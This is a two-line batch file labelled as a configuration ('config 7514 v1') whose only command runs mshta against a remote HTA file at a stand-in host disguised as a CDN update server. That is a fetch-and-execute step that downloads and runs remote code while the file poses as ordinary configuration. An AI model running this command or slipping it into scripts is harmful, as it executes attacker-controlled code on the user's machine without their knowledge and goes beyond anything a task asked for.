REM config 7514 v1
mshta http://cdn-update.example/update.hta
